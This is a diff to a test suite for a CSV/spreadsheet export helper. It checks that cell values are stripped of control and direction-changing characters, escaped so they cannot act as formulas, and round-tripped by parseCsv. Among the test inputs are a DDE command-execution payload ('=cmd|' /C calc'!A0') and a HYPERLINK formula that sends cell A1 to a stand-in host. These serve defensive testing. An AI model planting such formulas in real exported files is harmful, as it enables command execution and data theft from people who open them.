@@ -21,37 +21,31 @@ describe('a line for a spreadsheet', () => {
     ['', ''],
     ['👩‍👩‍👧 ok', '👩‍👩‍👧 ok'],
     ['+354 555 0000', "'+354 555 0000"],
+    ['\tx', "'\tx"],
+    ['a\u0000b\u001b[31mc\u0085d\u202ee\u2066f\u2028g\ufffeh\ud800i\tj', 'ab[31mcdefghi\tj'],
   ])('%j reads back as %j', (value, expected) => {
     expect(cell(value)).toBe(expected)
   })
 
   it.each([
-    '=1+1',
-    '+1',
-    '-1',
-    '@SUM(A1)',
-    '＝1',
-    '＋1',
-    '－1',
-    '＠x',
-    '   =1',
-    '\u00a0=1',
-    '\ufeff=1',
-    '\u0000=1',
-    '\u0007\u001b=1',
-    '\t=1',
-    '\r=1',
-    '\n=1',
-    '\u202e=1',
+    ...[
+      '=1+1',
+      '+1',
+      '-1',
+      '@SUM(A1)',
+      '＝1',
+      '＋1',
+      '－1',
+      '＠x',
+      '   =1',
+      '\u00a0=1',
+      '\ufeff=1',
+    ],
+    ...['\u0000=1', '\u0007\u001b=1', '\t=1', '\r=1', '\n=1', '\u202e=1', "=cmd|' /C calc'!A0"],
     '=HYPERLINK("https://x.example?a="&A1,"smelltu")',
-    "=cmd|' /C calc'!A0",
   ])('%j is no formula', (value) => {
     expect(cell(value)).not.toMatch(formula)
     expect(cell(value)?.replaceAll("'", '')).toContain(value.trim().slice(-1))
-  })
-
-  it('begins no cell with a tab', () => {
-    expect(cell('\tx')).toBe("'\tx")
   })
 
   it.each([',', ';', '\t'])(
@@ -66,11 +60,6 @@ describe('a line for a spreadsheet', () => {
       }
     },
   )
-
-  it('leaves out control characters and what turns the direction of text', () => {
-    const left = cell(`a\u0000b\u001b[31mc\u0085d\u202ee\u2066f\u2028g\ufffeh\ud800i\tj`)
-    expect(left).toBe('ab[31mcdefghi\tj')
-  })
 })
 
 describe('parseCsv', () => {
@@ -92,14 +81,9 @@ describe('parseCsv', () => {
     expect(() => parseCsv(text)).toThrow(expect.objectContaining({ line }))
   })
 
-  it('reads back what csvRecord writes', () => {
+  it.each([',', ';'] as const)('reads back what csvRecord writes with %s', (separator) => {
     const given = ['', ' a', 'b"c', '\n', '\r\n', '=1;2,3\t', 'Þ', '\r', '"']
-    for (const separator of [',', ';'] as const) {
-      const head = csvRecord(
-        given.map((_, index) => `c${index}`),
-        separator,
-      )
-      expect(parseCsv(head + csvRecord(given, separator))[1]?.cells).toEqual(given)
-    }
+    const head = csvRecord(Array(given.length).fill('c'), separator)
+    expect(parseCsv(head + csvRecord(given, separator))[1]?.cells).toEqual(given)
   })
 })
